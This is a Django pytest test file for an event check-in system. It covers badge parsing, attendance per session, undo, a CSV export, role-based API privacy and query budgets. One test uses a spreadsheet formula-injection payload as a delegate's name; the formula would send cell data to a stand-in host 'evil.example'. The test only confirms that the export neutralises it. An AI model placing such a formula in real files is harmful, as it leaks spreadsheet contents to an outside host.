"""On site (issue 13, items 5 and 9): check-in by badge code, by a badge's URL and by name, idempotent,
refused statuses with their messages, per-session attendance, undo with confirmation, the attendance
page and CSV, the delegates and attendance API with private fields only for those allowed, the role ×
action grid and query budgets."""

import csv
import io
from datetime import UTC, datetime, time

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation

from harambee.accounts.tests.factories import UserFactory
from harambee.audit.models import AuditEntry
from harambee.events.access import may_see_delegate_private, registration_personal_visible
from harambee.events.checkin import attendance_check_in, parse_badge_code, staff_add
from harambee.events.models import Attendance, Registration
from harambee.events.tests.factories import make_event, make_session
from harambee.registry.models import Country, MemberRole
from harambee.registry.tests.factories import MembershipFactory, OrganisationFactory, StateFactory

pytestmark = pytest.mark.django_db

LOGIN = "login"
ROLES = ["anonymous", "delegate", "other_manager", "delegation_manager", "staff", "host_manager", "secretariat"]


@pytest.fixture(autouse=True)
def fresh_pages(settings):
    settings.HARAMBEE_PAGE_CACHE_SECONDS = 0


def register(event, member, name, *, status="approved", code=None, consent=True, user=None, **fields):
    return Registration.objects.create(
        event=event, member=member, full_name=name, email=f"{name.split()[0].lower()}@example.org", status=status,
        badge_code=code, consent_participant_list=consent, user=user, **fields,
    )  # fmt: skip


class Site:
    """A published event of the cast's member (the host) with two sessions, Zambia's delegation of four
    (approved, approved without consent to the list, waitlisted, declined) and the people of each role."""

    def __init__(self, cast):
        self.cast = cast
        self.event = make_event(cast.member)
        self.opening = make_session(self.event, start=time(9), end=time(10, 30), title="Opening ceremony")
        self.panel = make_session(self.event, start=time(11), end=time(12, 30), title="Panel on AI skills")
        self.zambia = StateFactory(country=Country.objects.get(iso3="ZMB"))
        self.delegation_manager = UserFactory(email="focal.point@example.org")
        MembershipFactory(member=self.zambia, user=self.delegation_manager, role=MemberRole.MANAGER)
        self.delegate = UserFactory(email="mwila@example.org")
        self.mwila = register(
            self.event, self.zambia, "Mwila Banda", code="ZM7K2Q9P", user=self.delegate, dietary_needs="Halal",
            passport_number="ZN123456",
        )  # fmt: skip
        self.chanda = register(self.event, self.zambia, "Chanda Phiri", code="ZMCH4NDA", consent=False)
        self.waiting = register(self.event, self.zambia, "Bwalya Mulenga", status="waitlisted", code="ZMWAIT01")
        self.declined = register(self.event, self.zambia, "Natasha Zulu", status="declined", code="ZMDECL01")
        self.staff = UserFactory(email="volunteer@example.org")
        self.staffing = staff_add(event=self.event, actor=cast.manager, email="Volunteer@example.org")

    def user(self, role):
        return {
            "anonymous": None,
            "delegate": self.delegate,
            "other_manager": self.cast.other_manager,
            "delegation_manager": self.delegation_manager,
            "staff": self.staff,
            "host_manager": self.cast.manager,
            "secretariat": self.cast.secretariat,
        }[role]


@pytest.fixture
def site(cast):
    return Site(cast)


def checkin_url(site):
    return reverse("events:checkin", args=[site.event.slug])


def _last_entry() -> int:
    return AuditEntry.objects.order_by("-pk").values_list("pk", flat=True).first() or 0


def _text(response) -> str:
    return response.content.decode()


# ---------------------------------------------------------------------------------------------------
# What a badge says


@pytest.mark.parametrize(
    "scanned, code",
    [
        ("ZM7K2Q9P", "ZM7K2Q9P"),
        ("  zm7k2q9p \n", "zm7k2q9p"),
        ("https://harambee.example/en/events/beijing-2025/check-in/?code=ZM7K2Q9P", "ZM7K2Q9P"),
        ("https://harambee.example/badge/ZM7K2Q9P/", "ZM7K2Q9P"),
        ("/fr/events/beijing-2025/check-in/?session=3&code=ZM7K2Q9P", "ZM7K2Q9P"),
        ("https://harambee.example/", ""),
        ("", ""),
    ],
)
def test_a_badge_code_is_read_from_the_code_or_a_url(scanned, code):
    assert parse_badge_code(scanned) == code


# ---------------------------------------------------------------------------------------------------
# Checking in


def test_checking_in_by_code_records_attendance_once_with_one_audit_entry(site, client):
    # given the host's manager at the check-in desk, checking in for the whole event
    client.force_login(site.cast.manager)
    last = _last_entry()
    # when she types Mwila's badge code (in lower case) and presses Check in: one POST
    response = client.post(checkin_url(site), {"session": "event", "code": "zm7k2q9p"})
    # then the page confirms it, and one attendance at the event and one audit entry were recorded
    assert response.status_code == 200
    assert "Checked in: Mwila Banda." in _text(response)
    attendance = Attendance.objects.get()
    assert (attendance.registration, attendance.session, attendance.checked_in_by) == (
        site.mwila,
        None,
        site.cast.manager,
    )
    entry = AuditEntry.objects.filter(pk__gt=last).get()
    assert (entry.action, entry.changes, entry.member_code) == (
        "create",
        {"registration": [None, site.mwila.pk], "session": [None, None]},
        "unza",
    )


def test_a_scanned_badge_url_checks_in_at_the_chosen_session(site, client):
    client.force_login(site.cast.manager)
    url = f"https://harambee.example/en/events/{site.event.slug}/check-in/?code=ZM7K2Q9P"
    response = client.post(checkin_url(site), {"session": str(site.panel.pk), "code": url})
    assert response.status_code == 200
    assert Attendance.objects.get().session == site.panel
    assert "Panel on AI skills" in _text(response)


def test_checking_in_twice_says_when_and_writes_nothing(site, client):
    # given Mwila checked in at the opening at 09:12 in Beijing (01:12 UTC)
    client.force_login(site.cast.manager)
    client.post(checkin_url(site), {"session": str(site.opening.pk), "code": "ZM7K2Q9P"})
    Attendance.objects.update(checked_in_at=datetime(2025, 5, 12, 1, 12, tzinfo=UTC))
    writes = AuditEntry.objects.count()
    # when she is checked in again for the same session (a second phone, or a reload)
    response = client.post(checkin_url(site), {"session": str(site.opening.pk), "code": "ZM7K2Q9P"})
    # then the page says when, at the venue, and nothing more is written
    assert response.status_code == 200
    assert "Already checked in on 12 May 2025 at 9:12\u202fam." in _text(response)
    assert (Attendance.objects.count(), AuditEntry.objects.count()) == (1, writes)


def test_the_service_returns_the_first_check_in(site):
    first = attendance_check_in(registration=site.mwila, session=None, actor=site.cast.manager)
    again = attendance_check_in(registration=site.mwila, session=None, actor=site.cast.editor)
    assert (first.created, again.created, again.attendance.pk) == (True, False, first.attendance.pk)


def test_attendance_is_per_session(site, client):
    # given Mwila checked in at the event, at the opening and at the panel; Chanda at the panel only
    client.force_login(site.cast.manager)
    for session in ("event", str(site.opening.pk), str(site.panel.pk)):
        assert client.post(checkin_url(site), {"session": session, "code": "ZM7K2Q9P"}).status_code == 200
    client.post(checkin_url(site), {"session": str(site.panel.pk), "code": "ZMCH4NDA"})
    # then there is one row for each, and the summary counts them per session
    assert {(a.registration.full_name, a.session_id) for a in Attendance.objects.all()} == {
        ("Mwila Banda", None), ("Mwila Banda", site.opening.pk), ("Mwila Banda", site.panel.pk),
        ("Chanda Phiri", site.panel.pk),
    }  # fmt: skip
    summary = client.get(f"/api/v1/events/{site.event.slug}/attendance/summary").json()
    assert summary == {
        "approved": 2,
        "counts": [
            {"session": None, "title": "Whole event", "starts_at": None, "checked_in": 1},
            {"session": site.opening.pk, "title": "Opening ceremony", "starts_at": "2025-05-12T09:00:00+08:00",
             "checked_in": 1},
            {"session": site.panel.pk, "title": "Panel on AI skills", "starts_at": "2025-05-12T11:00:00+08:00",
             "checked_in": 2},
        ],
    }  # fmt: skip


@pytest.mark.parametrize(
    "code, message",
    [
        ("ZMWAIT01", "Not approved: Bwalya Mulenga is on the waiting list."),
        ("ZMDECL01", "Not approved: Natasha Zulu&#x27;s nomination was declined."),
        ("NOSUCH99", "No delegate of this event has the badge code “NOSUCH99”."),
        ("", "Type or scan a badge code."),
    ],
)
def test_only_approved_delegates_are_checked_in(site, client, code, message):
    client.force_login(site.cast.manager)
    writes = AuditEntry.objects.count()
    response = client.post(checkin_url(site), {"session": "event", "code": code})
    assert response.status_code == 422
    assert message in _text(response)
    assert (Attendance.objects.count(), AuditEntry.objects.count()) == (0, writes)


def test_nominated_and_withdrawn_are_refused_by_the_service(site):
    site.waiting.status = "nominated"
    site.declined.status = "withdrawn"
    for registration, message in (
        (site.waiting, "Not approved: Bwalya Mulenga's nomination still waits for the host's decision."),
        (site.declined, "Not approved: Natasha Zulu withdrew from the event."),
    ):
        with pytest.raises(Exception) as excinfo:
            attendance_check_in(registration=registration, session=None, actor=site.cast.manager)
        assert excinfo.value.messages == [message]


def test_a_badge_of_another_event_is_unknown_here(site, client):
    other = make_event(site.cast.member, slug="lusaka-2026")
    register(other, site.zambia, "Elsewhere Person", code="OTHER001")
    client.force_login(site.cast.manager)
    response = client.post(checkin_url(site), {"session": "event", "code": "OTHER001"})
    assert response.status_code == 422
    assert "No delegate of this event has the badge code “OTHER001”." in _text(response)


def test_a_session_of_another_event_is_not_found(site, client):
    other = make_event(site.cast.member, slug="lusaka-2026")
    elsewhere = make_session(other)
    client.force_login(site.cast.manager)
    response = client.post(checkin_url(site), {"session": str(elsewhere.pk), "code": "ZM7K2Q9P"})
    assert response.status_code == 404
    assert Attendance.objects.count() == 0


def test_a_cancelled_event_checks_nobody_in(site):
    from harambee.events.services import event_transition  # lazy: only this test cancels

    event_transition(event=site.event, actor=None, action="cancel", reason="Postponed")
    site.mwila.event.refresh_from_db()
    with pytest.raises(Exception) as excinfo:
        attendance_check_in(registration=site.mwila, session=None, actor=site.cast.manager)
    assert excinfo.value.messages == ["This event was cancelled: nobody is checked in."]


def test_searching_by_name_lists_delegates_with_a_button_or_the_reason(site, client):
    # given Chanda already checked in for the whole event
    client.force_login(site.cast.manager)
    client.post(checkin_url(site), {"session": "event", "code": "ZMCH4NDA"})
    # when the staff searches for "a" among Zambia's delegates (a GET: nothing is written)
    writes = AuditEntry.objects.count()
    response = client.get(checkin_url(site), {"session": "event", "q": "banda"})
    page = _text(response)
    # then Mwila is found with her button, which posts her registration (one request checks her in)
    assert response.status_code == 200
    assert "Check in Mwila Banda" in page
    assert f'name="registration" value="{site.mwila.pk}"' in page
    assert AuditEntry.objects.count() == writes
    # and the others show why they cannot be checked in, or when they were
    many = _text(client.get(checkin_url(site), {"session": "event", "q": "a"}))
    assert "Not approved: Bwalya Mulenga is on the waiting list." in many
    assert "Check in Bwalya Mulenga" not in many
    assert "Already checked in at" in many  # Chanda, a moment ago
    assert "Check in Chanda Phiri" not in many
    nobody = client.get(checkin_url(site), {"q": "Nobody Here"})
    assert "No delegate of this event has this name." in _text(nobody)
    # when she presses Mwila's button
    done = client.post(checkin_url(site), {"session": "event", "registration": str(site.mwila.pk)})
    assert "Checked in: Mwila Banda." in _text(done)


def test_a_badge_link_opened_by_a_camera_app_shows_the_delegate_and_writes_nothing(site, client):
    client.force_login(site.cast.manager)
    response = client.get(checkin_url(site), {"code": "ZM7K2Q9P"})
    assert response.status_code == 200
    assert "Check in Mwila Banda" in _text(response)
    assert Attendance.objects.count() == 0
    unknown = client.get(checkin_url(site), {"code": "NOSUCH99"})
    assert "No delegate of this event has the badge code “NOSUCH99”." in _text(unknown)


def test_the_current_session_is_chosen_by_default(site, client, monkeypatch):
    from harambee.events import attendance  # lazy: only this test moves the clock

    during_panel = datetime(2025, 5, 12, 3, 30, tzinfo=UTC)  # 11:30 in Beijing
    real = attendance.current_session
    monkeypatch.setattr(attendance, "current_session", lambda sessions, now=None: real(sessions, during_panel))
    from harambee.events import checkin_views  # lazy: the view imported the name

    monkeypatch.setattr(checkin_views, "current_session", attendance.current_session)
    client.force_login(site.cast.manager)
    page = _text(client.get(checkin_url(site)))
    assert f'<option value="{site.panel.pk}" selected>' in page


def test_undo_asks_first_then_removes_the_check_in(site, client):
    client.force_login(site.cast.manager)
    client.post(checkin_url(site), {"session": "event", "code": "ZM7K2Q9P"})
    attendance = Attendance.objects.get()
    url = reverse("events:checkin_undo", args=[site.event.slug, attendance.pk])
    writes, last = AuditEntry.objects.count(), _last_entry()
    # when the undo button is pressed, it asks first
    asked = client.post(url, {})
    assert asked.status_code == 200
    assert "Undo the check-in of Mwila Banda?" in _text(asked)
    assert 'name="confirmed" value="yes"' in _text(asked)
    assert (Attendance.objects.count(), AuditEntry.objects.count()) == (1, writes)
    # and once confirmed, the check-in is gone, with an audit entry
    done = client.post(url, {"confirmed": "yes"})
    assert done.status_code == 302
    assert done["Location"] == checkin_url(site) + "?session=event"
    assert Attendance.objects.count() == 0
    entry = AuditEntry.objects.filter(pk__gt=last).get()
    assert (entry.action, entry.changes) == ("delete", {"registration": [site.mwila.pk, None], "session": [None, None]})


# ---------------------------------------------------------------------------------------------------
# The attendance page and the CSV


def test_the_attendance_page_counts_for_everyone_and_names_only_for_those_allowed(site, client):
    client.force_login(site.cast.manager)
    client.post(checkin_url(site), {"session": "event", "code": "ZM7K2Q9P"})
    client.post(checkin_url(site), {"session": "event", "code": "ZMCH4NDA"})
    url = reverse("events:attendance", args=[site.event.slug])
    host = _text(client.get(url))
    assert "Mwila Banda" in host and "Chanda Phiri" in host
    assert "Download the attendance (CSV)" in host
    client.logout()
    public = _text(client.get(url))
    assert "2 approved delegates." in public
    assert "Mwila Banda" not in public and "Chanda Phiri" not in public
    client.force_login(site.delegate)
    own = _text(client.get(url))
    assert "Mwila Banda" in own and "Chanda Phiri" not in own


def test_the_csv_has_labels_next_to_codes_venue_times_and_safe_cells(site, client):
    # given a delegate whose name would run as a formula in a spreadsheet, checked in at the panel
    evil = register(site.event, site.zambia, '=HYPERLINK("http://evil.example/?"&A1)', code="EVIL0001")
    attendance_check_in(registration=site.mwila, session=None, actor=site.cast.manager)
    attendance_check_in(registration=evil, session=site.panel, actor=site.cast.manager)
    attendance_check_in(registration=site.mwila, session=site.panel, actor=site.cast.manager)
    Attendance.objects.update(checked_in_at=datetime(2025, 5, 12, 1, 12, tzinfo=UTC))
    client.force_login(site.cast.manager)
    # when the host downloads the CSV in French
    response = client.get(reverse("events:attendance_csv", args=[site.event.slug]).replace("/en/", "/fr/"))
    body = b"".join(response.streaming_content).decode()
    with translation.override("fr"):
        whole_event = translation.gettext("Whole event")  # translated once the catalogues are regenerated
    # then each row names the delegation by code and name, the session by id and title, the time at the venue
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert list(csv.reader(io.StringIO(body))) == [
        ["delegation", "delegation_label", "delegate", "session", "session_label", "checked_in_at", "time_zone"],
        ["zmb", "Zambie", "Mwila Banda", "", whole_event, "2025-05-12T09:12:00+08:00", "Asia/Shanghai"],
        ["zmb", "Zambie", "'=HYPERLINK(\"http://evil.example/?\"&A1)", str(site.panel.pk), "Panel on AI skills",
         "2025-05-12T09:12:00+08:00", "Asia/Shanghai"],
        ["zmb", "Zambie", "Mwila Banda", str(site.panel.pk), "Panel on AI skills", "2025-05-12T09:12:00+08:00",
         "Asia/Shanghai"],
    ]  # fmt: skip


# ---------------------------------------------------------------------------------------------------
# The API: the participant list for everyone, private fields only for those allowed


PRIVATE_SEEN = {
    # role: the delegates whose private fields it sees
    "anonymous": set(),
    "delegate": {"Mwila Banda"},
    "other_manager": set(),
    "delegation_manager": {"Mwila Banda", "Chanda Phiri", "Bwalya Mulenga", "Natasha Zulu"},
    "staff": set(),  # checks in by name and code, sees no private field
    "host_manager": {"Mwila Banda", "Chanda Phiri", "Bwalya Mulenga", "Natasha Zulu"},
    "secretariat": {"Mwila Banda", "Chanda Phiri", "Bwalya Mulenga", "Natasha Zulu"},
}


@pytest.mark.parametrize("role", ROLES)
def test_api_registrations_show_private_fields_only_to_those_allowed(role, site, client):
    # given a person in `role`
    if site.user(role):
        client.force_login(site.user(role))
    # when it reads the event's delegates
    response = client.get(f"/api/v1/events/{site.event.slug}/registrations")
    items = response.json()["items"]
    # then it sees the participant list (approved and consented) and, privately, exactly whom it may
    assert response.status_code == 200
    private = {i["full_name"] for i in items if i["private"] is not None}
    listed = {i["full_name"] for i in items}
    assert private == PRIVATE_SEEN[role]
    assert listed == {"Mwila Banda"} | PRIVATE_SEEN[role]
    assert {i["full_name"]: i["delegation"] for i in items}["Mwila Banda"] == {"code": "zmb", "name": "Zambia"}
    if "Mwila Banda" in private:
        mwila = next(i for i in items if i["full_name"] == "Mwila Banda")["private"]
        # personal details (needs, passport) only for the host's managers, her member and herself
        personal = role != "secretariat" and registration_personal_visible(site.user(role), site.mwila)
        assert (mwila["email"], mwila["dietary_needs"], mwila["passport_number"], mwila["status"]) == (
            "mwila@example.org", "Halal" if personal else None, "ZN123456" if personal else None, "approved",
        )  # fmt: skip
    else:
        assert all("ZN123456" not in str(i) and "mwila@example.org" not in str(i) for i in items)


@pytest.mark.parametrize("role", ROLES)
def test_the_one_access_function_matches_the_grid(role, site):
    user = site.user(role)
    seen = {r.full_name for r in Registration.objects.all() if may_see_delegate_private(user, r)}
    assert seen == PRIVATE_SEEN[role]


@pytest.mark.parametrize("role", ROLES)
def test_api_attendance_lists_only_delegates_one_may_see_privately(role, site, client):
    attendance_check_in(registration=site.mwila, session=site.opening, actor=site.cast.manager)
    attendance_check_in(registration=site.chanda, session=None, actor=site.cast.manager)
    if site.user(role):
        client.force_login(site.user(role))
    response = client.get(f"/api/v1/events/{site.event.slug}/attendance")
    assert response.status_code == 200
    names = {(i["full_name"], i["session"]) for i in response.json()["items"]}
    expected = {("Mwila Banda", site.opening.pk), ("Chanda Phiri", None)}
    assert names == {row for row in expected if row[0] in PRIVATE_SEEN[role]}
    if ("Mwila Banda", site.opening.pk) in names:
        row = next(i for i in response.json()["items"] if i["session"] == site.opening.pk)
        assert row["session_title"] == "Opening ceremony"
        assert row["checked_in_at"].endswith("+08:00")


# ---------------------------------------------------------------------------------------------------
# Role × action grid


ONLY_HOSTS = {
    "anonymous": LOGIN, "delegate": 403, "other_manager": 403, "delegation_manager": 403, "staff": 403,
    "host_manager": 200, "secretariat": 200,
}  # fmt: skip
DESK = {**ONLY_HOSTS, "staff": 200}  # who checks in: the hosts and the event's check-in staff
EVERYONE = dict.fromkeys(ROLES, 200)
API_HOSTS = {**ONLY_HOSTS, "anonymous": 403}
HOSTS_POST = {role: (302 if status == 200 else status) for role, status in ONLY_HOSTS.items()}

GRID = {
    # name: (method, url builder, data, expected, writes when allowed)
    "checkin_page": ("get", lambda s: checkin_url(s), {"q": "Mwila"}, DESK, 0),
    "checkin_post": ("post", lambda s: checkin_url(s), {"session": "event", "code": "ZM7K2Q9P"}, DESK, 1),
    "undo": (
        "post",
        lambda s: reverse("events:checkin_undo", args=[s.event.slug, s.attendance.pk]),
        {"confirmed": "yes"},
        {role: (302 if status == 200 else status) for role, status in DESK.items()},
        1,
    ),  # fmt: skip
    "staff_add": (
        "post",
        lambda s: reverse("events:checkin_staff_add", args=[s.event.slug]),
        {"email": "outsider@example.org"},
        HOSTS_POST,
        1,
    ),  # fmt: skip
    "staff_remove": (
        "post",
        lambda s: reverse("events:checkin_staff_remove", args=[s.event.slug, s.staffing.pk]),
        {"confirmed": "yes"},
        HOSTS_POST,
        1,
    ),  # fmt: skip
    "attendance_page": ("get", lambda s: reverse("events:attendance", args=[s.event.slug]), None, EVERYONE, 0),
    "attendance_csv": ("get", lambda s: reverse("events:attendance_csv", args=[s.event.slug]), None, ONLY_HOSTS, 0),
    "api_registrations": ("get", lambda s: f"/api/v1/events/{s.event.slug}/registrations", None, EVERYONE, 0),
    "api_attendance": ("get", lambda s: f"/api/v1/events/{s.event.slug}/attendance", None, EVERYONE, 0),
    "api_summary": ("get", lambda s: f"/api/v1/events/{s.event.slug}/attendance/summary", None, EVERYONE, 0),
    "api_csv": ("get", lambda s: f"/api/v1/events/{s.event.slug}/attendance.csv", None, API_HOSTS, 0),
}


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("view", sorted(GRID))
def test_permission_grid(view, role, site, client):
    # given a person in `role`, and Chanda checked in at the opening
    method, url, data, expected, writes_when_allowed = GRID[view]
    site.attendance = attendance_check_in(registration=site.chanda, session=site.opening, actor=None).attendance
    user = site.user(role)
    if user:
        client.force_login(user)
    writes = AuditEntry.objects.count()
    # when it opens or submits the page
    response = getattr(client, method)(url(site), data or {})
    # then it gets exactly what its role allows, and a refused write changes nothing
    if expected[role] == LOGIN:
        assert response.status_code == 302
        assert reverse("accounts:login") in response["Location"]
    else:
        assert response.status_code == expected[role]
    allowed = expected[role] in (200, 302)
    assert AuditEntry.objects.count() == writes + (writes_when_allowed if allowed else 0)


def test_a_draft_event_is_not_found_for_the_public(site, client):
    draft = make_event(site.cast.member, slug="draft", publish=False)
    for url in (
        reverse("events:attendance", args=[draft.slug]),
        f"/api/v1/events/{draft.slug}/registrations",
        f"/api/v1/events/{draft.slug}/attendance/summary",
    ):
        assert client.get(url).status_code == 404


# ---------------------------------------------------------------------------------------------------
# Query budgets


def _grow(site, start: int, n: int) -> None:
    for i in range(start, start + n):
        member = OrganisationFactory(code=f"delegation-{i}", name=f"Delegation {i}")
        registration = register(site.event, member, f"Delegate {i}", code=f"CODE{i:04d}")
        attendance_check_in(registration=registration, session=None, actor=None)
        attendance_check_in(registration=registration, session=site.opening, actor=None)


def _count(client, url) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 200
    return len(queries)


BUDGETS = {
    # page: (url, queries) — session, user, roles and notifications for a signed-in page; the event with its
    # translations and co-hosts; then what the list needs, whatever its length
    "attendance_page": (lambda s: reverse("events:attendance", args=[s.event.slug]), 13),  # + check-in staff
    "checkin_search": (lambda s: reverse("events:checkin", args=[s.event.slug]) + "?q=Delegate", 11),
    "api_registrations": (lambda s: f"/api/v1/events/{s.event.slug}/registrations?page_size=200", 7),
    "api_attendance": (lambda s: f"/api/v1/events/{s.event.slug}/attendance?page_size=200", 8),
}


@pytest.mark.parametrize("page", sorted(BUDGETS))
def test_lists_cost_the_same_however_many_delegates(page, site, client):
    # given the host's manager, 3 delegations checked in, then 15
    url, budget = BUDGETS[page]
    client.force_login(site.cast.manager)
    _grow(site, 0, 3)
    client.get(url(site))  # warm per-process caches
    small = _count(client, url(site))
    _grow(site, 3, 12)
    large = _count(client, url(site))
    # then the page costs the same, within its budget
    assert small == large
    assert large <= budget


# ---------------------------------------------------------------------------------------------------
# The demo's check-ins


def test_the_demo_checks_in_whichever_approved_delegates_exist(cast):
    from harambee.demo.events import load_demo_checkins  # lazy: the demo is loaded by this test only

    people = {"china.manager@demo.harambee.test": cast.manager}
    # given no Beijing workshop, then one without delegates: nothing to do
    assert load_demo_checkins(people) == 0
    event = make_event(cast.member)
    opening = make_session(event, title="Opening ceremony")
    exchange = make_session(event, start=time(14), end=time(15), title="Knowledge exchange", kind="exchange")
    assert load_demo_checkins(people) == 0
    # given six approved delegates and a waitlisted one
    zambia = StateFactory(country=Country.objects.get(iso3="ZMB"))
    approved = [register(event, zambia, f"Delegate {i}", code=f"D{i}") for i in range(6)]
    register(event, zambia, "Waiting Person", status="waitlisted", code="W1")
    # when the demo's check-ins are made
    made = load_demo_checkins(people)
    # then five of six arrived at the event (the fifth did not), on the first morning at the venue
    at_event = Attendance.objects.filter(session=None)
    assert sorted(a.registration.full_name for a in at_event) == [f"Delegate {i}" for i in (0, 1, 2, 3, 5)]
    assert {a.checked_in_at.astimezone(event.zone).date() for a in at_event} == {event.start_date}
    assert Attendance.objects.filter(session=opening).count() == 3  # i % 3 != 2 among 0, 1, 2, 3, 5
    assert Attendance.objects.filter(session=exchange).count() == 2  # i even among 0, 1, 2, 3, 5
    assert made == Attendance.objects.count() == 10
    assert not Attendance.objects.filter(registration__status="waitlisted").exists()
    assert all(a.checked_in_by == cast.manager for a in Attendance.objects.all())
    assert approved[4].attendances.count() == 0
    # and loading again adds nothing
    assert load_demo_checkins(people) == 0


# ---------------------------------------------------------------------------------------------------
# Check-in staff


def test_the_host_adds_and_removes_check_in_staff(site, client):
    client.force_login(site.cast.manager)
    url = reverse("events:checkin_staff_add", args=[site.event.slug])
    # an unknown address and a person already on the staff are refused, next to the field
    unknown = client.post(url, {"email": "nobody@example.org"})
    assert unknown.status_code == 400
    assert "No account has the e-mail address “nobody@example.org”: invite the person first." in _text(unknown)
    twice = client.post(url, {"email": "volunteer@example.org"})
    assert "This person already checks delegates in at this event." in _text(twice)
    # the attendance page lists the staff for the host
    page = _text(client.get(reverse("events:attendance", args=[site.event.slug])))
    assert "volunteer@example.org" in page
    # removing asks first, then the volunteer can no longer open the check-in page
    remove = reverse("events:checkin_staff_remove", args=[site.event.slug, site.staffing.pk])
    assert "Stop volunteer@example.org checking delegates in?" in _text(client.post(remove, {}))
    assert client.post(remove, {"confirmed": "yes"}).status_code == 302
    client.force_login(site.staff)
    assert client.get(checkin_url(site)).status_code == 403


def test_staff_check_in_by_name_but_see_no_names_on_the_attendance_page(site, client):
    client.force_login(site.staff)
    found = _text(client.get(checkin_url(site), {"q": "Mwila"}))
    assert "Check in Mwila Banda" in found
    done = client.post(checkin_url(site), {"session": "event", "registration": str(site.mwila.pk)})
    assert "Checked in: Mwila Banda." in _text(done)
    assert Attendance.objects.get().checked_in_by == site.staff
    attendance = _text(client.get(reverse("events:attendance", args=[site.event.slug])))
    assert "Mwila Banda" not in attendance
    assert "Download the attendance (CSV)" not in attendance
